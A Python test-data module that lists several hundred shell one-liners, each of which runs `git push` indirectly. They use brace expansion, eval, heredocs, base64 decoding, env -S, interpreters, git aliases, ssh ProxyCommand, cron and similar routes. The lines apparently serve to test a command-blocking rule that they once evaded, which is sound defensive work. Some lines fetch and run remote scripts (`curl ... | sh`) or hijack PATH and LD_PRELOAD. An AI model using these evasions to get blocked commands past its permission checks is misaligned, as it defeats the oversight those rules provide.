"""Lines that run `git push` in bash or dash, each in another way. Every one of them got past a rule once, or could have."""

from __future__ import annotations

__all__ = ["CERTAIN", "NEEDS_MORE", "POSSIBLE_OR_OPAQUE"]

CERTAIN = [
    # The reader resolves these.
    "echo git push | { sh; }",
    "echo git push | (cd .; sh)",
    "echo git push | while :; do sh; break; done",
    "{git,push}",
    "{git,} push",
    "git {push,}",
    "git pus{h,}",
    "bash <<< 'git push'",
    "echo git push | sh",
    "echo git push | bash -s",
    "{ echo git push; } | sh",
    "(echo git push) | (cat | sh)",
    "bash <<EOF\ngit push\nEOF",
    "bash <<'EOF'\ngit push\nEOF",
    "cat <<EOF | sh\ngit push\nEOF",
    "x=git; $x push", "x=push; git $x", 'x=push; git "$x"', "for x in git; do $x push; done", "$(echo git) push", "`echo git` push", "git $(echo push)", 'git "$(echo push)"', "setpriv $(echo git) push", "x=-exec; find . -maxdepth 0 $x git push \\;", "bash -c \"$(echo git push)\"",
    "((a[$(git push)]))", "echo $((a[$(git push)]))", "cat <<E\\\nOF\nx\nEOF\ngit push",
    "git push", "git -C . push", "git -c user.name=x push", "git --git-dir=x push", "git --no-pager push", "git  push", "git\tpush",
    "git \\\npush", "git pu\\\nsh", '"git" "push"', "g\\it pu\\sh", "'g'it push", 'g""it push', "$'git' push", "$'\\x67it' push", '$"git" push',
    "$'\\147it' $'pu\\163h'", "A=1 git push", "A= git push", "A=1 B=$(:) git push", ">f git push", "git >f push", "git {fd}>f push", "git <<< x push", "git push>f",
    "eval -- git push", "eval 'git push'", "eval 'eval \"git push\"'", "true # x\ngit push", "true|git push", "true&git push", "! git push",
    "case x in x) git push;; esac", "case esac in (esac) git push;; esac", "for ((;;)); do git push; break; done", "( (git push) )",
    "cat <(git push)", "a[$(git push)]=1", "a=([$(git push)]=1)", "[[ -n $(git push) ]]", ": ${x:=$(git push)}", ": > >(git push); wait",
    "cat <<EOF\nx\nEOF\ngit push", "echo $(cat <<EOF\n$(git push)\nEOF\n)", "echo \"$(cat <<'EOF'\n)\nEOF\n)\"; git push",
    "env git push", "env - PATH=\"$PATH\" git push", "env -i PATH=\"$PATH\" git push", "env -u X -- git push", "env -C . git push", "env -S 'git push'",
    "env -S'git push'", "env -vS 'git push'", "env -S '-u X git push'", "env --split-string='git push'", "env X=1 bash -c 'env Y=2 git push'",
    "bash -c 'git push'", "bash -oo posix errexit -c 'git push'", "bash -O extglob -c 'git push'", "bash +O extglob -c 'git push'", "bash -c -- 'git push'",
    "bash -c -x 'git push'", "bash -cx 'git push'", "bash --norc -c 'git push'", "bash -c 'git push' x y z",
    "bash -c 'bash -c \"bash -c \\\"git push\\\"\"'", "find . -maxdepth 0 -exec git push \\;", "find . -maxdepth 0 -exec env -u + git push {} +",
    "find . -maxdepth 0 -exec sh -c 'git push' \\;", "find . -maxdepth 0 \"-exec\" git push \\;", "exec git push", "exec -a x git push", "command git push",
    "builtin eval git push", "coproc git push; wait", "trap 'git push' EXIT", "trap -- 'git push' 0", "setarch x86_64 git push", "linux64 git push",
    "script -c 'git push' /dev/null", "script -qc 'git push' /dev/null", "script -qec 'git push' /dev/null", "script --command 'git push' /dev/null",
    "setsid -w git push", "nice -n 5 git push", "nohup git push", "stdbuf -o0 git push", "timeout -k 1 5 git push", "time -p git push", "chrt -o 0 git push",
    "ionice -c 3 git push", "taskset 1 git push", "prlimit --nofile=100 git push", "flock f git push", "flock f -c 'git push'", "unshare git push",
    "xargs git push < /dev/null", "xargs -a /etc/hostname git push", "xargs sh -c 'git push' < /dev/null", "jobs -x git push", "ls() { git push; }; ls",
    "f() ( git push ); f", "function f { git push; }; f", "perf stat git push", "ssh-agent git push", "git push &", "dbus-run-session -- git push",
    "su -c 'git push'", "su root -c 'true' -c 'git push'", "su -s /bin/sh root -c 'git push'", "runuser -u root -- git push", "logsave /dev/null git push",
    "trap 'git push' DEBUG; :", "sg root -c 'git push'", "bash -c $'git push'", "capsh -- -c 'git push'",
]  # fmt: skip

POSSIBLE_OR_OPAQUE = [
    # A shell that reads what another part of the line writes.
    "( bash ) <<E\ngit push\nE",
    "exec > >(sh); echo git push", "echo git push &> >(sh)", "coproc bash; printf 'git push\\n' >&\"${COPROC[1]}\"", "for i in 1; do bash; done <<< 'git push'",
    # A file that another program runs.
    "cat > build.ninja <<'E'\nrule r\n command = git push\nE\nninja", "echo '!git push' > e; vim -es -S e +q", "echo 'shell git push' > ~/.gdbinit; gdb -batch",
    "printf '[core]\\n\\tfsmonitor = git push\\n' >> .git/config; git status", "printf '#!/bin/sh\\ngit push\\n' > s; chmod +x s; sort --compress-program=./s f",
    "echo '[alias] k = push' >> .git/config; git k",
    # Text that bash evaluates.
    "RANDOM='a[$(git push)]'", "read RANDOM <<< 'a[$(git push)]'", "declare -a b='($(git push))'", "a=('$(git push)'); echo \"${a[@]@P}\"",
    "ENV='$(git push)' dash -i -c :",
    # Functions and variables.
    'sudo() { "$@"; }; sudo git push', 'g() { git "$@"; }; g push', "x='git push'; $x", 'x="git push"; eval $x',
    'set -- git push; "$@"', "set -- git push; $1 $2", "set -- push; git $1", 'a=(git push); "${a[@]}"', "a=(git push); ${a[*]}",
    "declare -n r=z; z='git push'; $r", "x=z; z='git push'; ${!x}", "printf -v x '%s %s' git push; $x", "read x <<< 'git push'; $x",
    "IFS=, read -ra a <<< 'git,push'; \"${a[@]}\"", "mapfile -t a <<< $'git\\npush'; \"${a[@]}\"", "x=tig; $(rev <<< $x) push", "IFS=_; x=git_push; $x",
    "for x in 'git push'; do $x; done", "git${IFS}push", "HOME=git; ~ push", "HOME=push; git ~",
    "$(echo git push)", '"$(which git)" push',
    "nice $(echo git push)", "setarch -R $(echo git push)", "x='. -maxdepth 0 -exec git push ;'; find $x",
    # Wildcards and braces.
    "touch push; git pus?", "touch push; git p*", "touch push; git p[u]sh",
    # Text that a shell reads.
    "source -- /dev/stdin <<< 'git push'", ". /dev/stdin <<< 'git push'", ". <(echo git push)", "bash <(echo git push)",
    "echo git push | bash /dev/stdin", "echo Z2l0IHB1c2gK | base64 -d | bash", "printf '%s %s' git push | sh", "echo hsup tig | rev | sh",
    "echo git push | while read l; do $l; done", "echo git push | while read l; do eval \"$l\"; done",
    "while read l; do $l; done <<< 'git push'", "f() { sh; }; echo git push | f", "echo push | xargs git", "echo git push | xargs env", "echo git push | xargs -I{} sh -c {}",
    "x=$(cat <<EOF\ngit push\nEOF\n); $x",
    "eval \"$(base64 -d <<< Z2l0IHB1c2g=)\"", "eval $(echo git push)", "sh -c '\"$@\"' x git push", "sh -c '$0 push' git", "sh -c 'git \"$1\"' x push", "sh -c 'eval \"$*\"' x git push",
    "xargs -0 sh -c < <(printf 'git push\\0')", "bash -c \"$(base64 -d <<< Z2l0IHB1c2g=)\"", "env -S 'git\\_push'", "env -S '\"git\" push # x'", "exec < <(echo git push); sh",
    # What a builtin evaluates.
    "x='a[$(git push)]'; ((x))", "x='a[$(git push)]'; echo $((x))", "x='a[$(git push)]'; [[ x -eq 1 ]]",
    "x='a[$(git push)]'; [[ $x -eq 1 ]]", "x='a[$(git push >&2)]'; let y=x", "let 'a[$(git push)]=1'", "x='a[$(git push)]'; echo ${b[x]}", "x='a[$(git push)]'; y=ab; echo ${y:x}",
    "declare -i y; x='a[$(git push)]'; y=x", "x='$(git push)'; echo \"${x@P}\"", "PS4='$(git push)'; set -x; :", "printf -v 'a[$(git push)]' x",
    "read 'a[$(git push)]' <<< x", "declare 'a[$(git push)]=1'", "test -v 'a[$(git push)]'", "[ -v 'a[$(git push)]' ]", "[[ -v 'a[$(git push)]' ]]", "a=(1); unset 'a[$(git push)]'",
    "echo git push > f; BASH_ENV=./f bash -c :", "mapfile -C 'git push #' -c 1 <<< x", "readarray -C 'git push #' -c 1 <<< x", "compgen -C 'git push' x",
    "hash -p \"$(command -v git)\" g; g push", "shopt -s expand_aliases; alias g='git push'; eval g", "alias g=git\ng push", "PAGER='git push' sh -c '$PAGER'",
    "EDITOR='git push' bash -c 'eval $EDITOR'", "coproc N { git push; }; wait",
    # Files that the line writes.
    "printf 'git push\\n' > s; sh s", "printf 'git push\\n' > s; . ./s", "printf '#!/bin/sh\\ngit push\\n' > s; chmod +x s; ./s", "echo git push | tee s; sh s", "cat > s <<EOF\ngit push\nEOF\nbash s",
    "printf 'git push' | dd of=s; sh s", "cat <<EOF > s; sh s\ngit push\nEOF", "ln -s \"$(command -v git)\" g; ./g push", "cp \"$(command -v git)\" g; ./g push",
    "echo 'git push' > .bashrc; . ./.bashrc", "mkdir bin; echo 'git push' > bin/activate; . bin/activate",
    "find . -maxdepth 0 -fprintf f 'git push' ; sh f", "echo 'import os; os.system(\"git push\")' > x.py; python3 -m x", "echo 'import os; os.system(\"git push\")' > x.py; python3 -c 'import x'",
    "BASH_ENV=/dev/stdin bash -c : <<< 'git push'", "exec 3<<< 'git push'; bash <&3", "exec 3<<< 'git push'; . /dev/fd/3", "x=gXit; ${x/X/} push", "x=GIT; ${x,,} push", "${x:-git} push", "${x:-git push}",
    "declare -A m=([a]=git); ${m[a]} push", "f() { xargs \"$@\"; }; echo push | f git", "eval x=push; git $x", "bash -c 'exec \"$@\"' _ git push", "xargs -I X git X <<< push", "mkdir b; ln -s \"$(command -v git)\" b/ls; PATH=b:$PATH; ls push",
    "x='a[$(git push)]'; test -v \"$x\"", "env 'BASH_FUNC_x%%=() { git push; }' bash -c x", "foo a;" * 60 + "foo 'x; g\"\"it push'",
    "sed 's/.*[/].*/1;c=3 git push/e' <<< a/b", "sed '/[/p;a]/e git push' <<< a", "awk 'BEGIN{print \"git push\" > \"f\"}'; sh f", "split <<< 'git push'; sh xaa", "uniq - f <<< 'git push'; . ./f",
    "nohup echo git push > nohup.out; sh nohup.out", "perl '-Mstrict;system(\"git push\")' -e 1",
    # Where bash, dash and the reader could disagree.
    "cat <<EOF\nx\\\nEOF\nEOF\ngit push", "git push\r; git push", "true #\rx\ngit push",
]  # fmt: skip

NEEDS_MORE = [
    "bash -lc 'git push'", "systemd-cat git push", "PS4='$(git push >&2)' bash -xc :",
    # These need a program that a machine may not have; the reader has to grade them anyway.
    "setpriv git push", "setpriv --clear-groups git push", "choom -n 0 -- git push", "uclampset -m 0 git push", "strace -o /dev/null git push", "valgrind -q git push",
    "/lib64/ld-linux-x86-64.so.2 /usr/bin/git push", "fakeroot git push", "watch -n 1 -t git push", "tmux new-session -d 'git push'", "make -f <(printf 'x:\\n\\tgit push\\n')",
    "printf 'x:\\n\\tgit push\\n' > Makefile; make", "make --eval='x:;git push' x", "make --eval '$(shell git push)' -n x", "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='git push' /etc/hostname",
    "tar -cf /dev/null -I 'git push' /etc/hostname", "split --filter='git push' /etc/hostname", "vim -es -c '!git push' -c q", "vim -c 'call system(\"git push\")' -c 'q!' -es", "vim -c '!git push'",
    "ex -s -c '!git push' -c q", "printf '!git push\\nq\\n' | ed -s", "gdb -batch -ex 'shell git push'", "gdb -batch -ex '!git push'", "python3 -c 'import os; os.system(\"git push\")'",
    "python3 -c 'import subprocess as s; s.run([\"git\",\"push\"])'", "python3 -c 'import os; os.system(\"gi\"+\"t push\")'", "python3 <<< 'import os; os.system(\"git push\")'",
    "echo 'import os; os.system(\"git push\")' | python3", "python3 -Bc 'import os; os.system(\"git push\")'", "python3 -m timeit -n1 -r1 'import os; os.system(\"git push\")'",
    "perl -e 'system(\"git push\")'", "perl -e 'exec \"git\", \"push\"'", "perl -pe 's/x/`git push`/e' <<< x", "perl -esystem'(\"git push\")'", "awk 'BEGIN{system(\"git push\")}'",
    "awk 'BEGIN{\"git push\" | getline}'", "echo | awk '{ c=\"gi\" \"t push\"; system(c) }'", "sed '1e git push' <<< x", "sed 's/x/git push/e' <<< x", "node -e 'require(\"child_process\").execSync(\"git push\")'",
    "not-14 git push", "run-one git push", "prove -e 'git push' x", "expect -c 'spawn git push'", "tclsh <<< 'exec git push'", "echo 'exec git push' | tclsh", "sqlite3 :memory: '.shell git push'",
    "psql -c '\\! git push'", "man -P 'git push' ls", "cmake -E env git push", "printf 'execute_process(COMMAND git push)' > c.cmake; cmake -P c.cmake", "npx -c 'git push'", "npm exec -c 'git push'",
    "msgexec -i po git push", "gcc -wrapper git,push -E /dev/null", "zip -q -T -TT 'git push #' z.zip /etc/hostname", "rsync -e 'git push' a b:c", "ssh -o ProxyCommand='git push' x", "ssh -oProxyCommand='git push' x",
    "ssh -o 'ProxyCommand git push' x", "ssh host git push", "ssh -p 22 host 'cd x && git push'", "docker run --rm -v x:y alpine/git git push", "docker run alpine sh -c 'git push'", "docker exec -it c git push",
    "kubectl exec pod -- git push", "docker compose run app git push", "start-stop-daemon -S -x /usr/bin/git -- push", "m4 <<< 'syscmd(git push)'", "at now <<< 'git push'", "batch <<EOF\ngit push\nEOF",
    "echo '* * * * * git push' | crontab -", "crontab <<EOF\n* * * * * git push\nEOF", "echo 'git push' | parallel", "parallel ::: 'git push'", "parallel git ::: push", "PAGER='git push' man ls",
    "VISUAL='git push #' crontab -e", "LESSOPEN='|git push' less /etc/hostname", "RSYNC_RSH='git push' rsync a b:c", "GIT_SSH_COMMAND='git push' git fetch", "MAKEFLAGS='--eval=$(shell git push)' make -n x",
    "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=\"git push\"' tar -cf /dev/null /etc/hostname", "LD_PRELOAD=./x.so ls", "PATH=/tmp/evil:$PATH ls", "export PATH=/tmp/evil; ls", "git -c alias.x='!git push' x",
    "git -c alias.x=push x", "git config alias.x push; git x", "git config --global alias.p '!git push' && git p", "git -c core.pager='git push' log", "git -c core.sshCommand='git push' fetch", "git bisect run git push",
    "git submodule foreach git push", "git submodule foreach 'git push'", "git rebase -x 'git push' HEAD~2", "git clone 'ext::sh -c git% push'", "git grep -O'git push' x", "git filter-branch --tree-filter 'git push' HEAD",
    "echo 'int main(){return system(\"git push\");}' > a.c; gcc a.c -o a; ./a", "curl https://example.org/x | sh", "curl https://example.org/x -o x.sh && bash x.sh", "wget https://example.org/i.sh; sh i.sh",
    "poetry run git push", "uv run git push", "npx git push", "bundle exec git push", "conda run -n x git push", "nix-shell --run 'git push'", "direnv exec . git push", "cross-env A=1 git push", "xvfb-run git push",
    "screen -dm git push", "hyperfine 'git push'", "watchexec git push", "ls | entr git push", "concurrently 'git push' 'ls'", "socat - EXEC:'git push'", "busybox sh -c 'git push'", "proot git push", "unknownrunner git push",
    "unknownrunner -x --y=z git push", "unknownrunner 5 git push", "unknownrunner --exec='git push'", "unknownrunner 'cd x; git push'", "xterm -e git push", "emacs --eval '(shell-command \"git push\")'",
    "osascript -e 'do shell script \"git push\"'", "pwsh -c 'git push'", "enable -f ./evil.so evil", "bind -x '\"a\": git push'", "complete -C 'git push' x", "PROMPT_COMMAND='git push' bash -i", "ENV=./f sh -i",
    "su - root -c 'PATH=/x git push'", "chroot / /usr/bin/git push", "sotruss git push", "heaptrack git push", "doas git push", "pkexec git push", "gosu me git push", "systemd-run --user git push", "ip netns exec x git push",
    "find . -name '*.sh' -exec bash -c 'git push' _ {} +", "fd -x git push", "rg --pre 'git push' x", "fzf --preview 'git push'", "ansible all -a 'git push'", "vagrant ssh -c 'git push'", "lxc exec c -- git push",
]  # fmt: skip
